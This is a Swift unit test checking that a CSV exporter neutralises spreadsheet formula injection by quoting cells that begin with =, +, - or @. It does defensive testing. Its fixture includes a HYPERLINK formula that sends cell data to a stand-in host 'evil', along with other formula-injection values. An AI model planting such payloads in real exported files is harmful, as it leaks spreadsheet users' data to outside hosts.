import Foundation
import Logging
import Testing
import TestSupport
@testable import TablejohnKit

@Suite("CSV export formulas")
struct CSVFormulaTests {
    @Test("text cells that start like a spreadsheet formula get a leading quote; negative numbers stay numbers")
    func neutralised() throws {
        // Given a run whose runner, bench method and metrics start with = + - @
        let repo = try TestRepository()
        let hash = try repo.commits(1)[0]
        let store = try Store.inMemory()
        _ = try Importer(repository: GitRepository(opening: repo.path), store: store, logger: Logger(label: "test")).run()
        try store.record(Run(id: "run-1", commit: hash, benchMethod: "@SUM(A1)", runnerName: "+cmd", fingerprint: nil,
                             start: 0, end: 1000, exitCode: 0, origin: .runner,
                             measurements: [try Measurement(metric: "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", value: -1.5, unit: "-ns"),
                                            try Measurement(metric: "plain", value: -2, unit: "@x")]))

        // When exporting
        var bytes = Array(Store.csvHeader.utf8)
        _ = try store.exportCSV(RunFilter(), after: nil, limit: 100, into: &bytes)
        let lines = String(decoding: bytes, as: UTF8.self).split(separator: "\n")

        // Then formula-like text is prefixed with ' (inside the quotes when quoted), numbers are untouched
        #expect(lines.count == 3)
        #expect(lines[1] == #"run-1,\#(hash),"'=HYPERLINK(""http://evil/?""&A1,""x"")",-1.5,'-ns,'+cmd,'@SUM(A1),1970-01-01T00:00:00.000Z,1970-01-01T00:00:01.000Z,0,runner"#)
        #expect(lines[2] == "run-1,\(hash),plain,-2.0,'@x,'+cmd,'@SUM(A1),1970-01-01T00:00:00.000Z,1970-01-01T00:00:01.000Z,0,runner")
    }
}
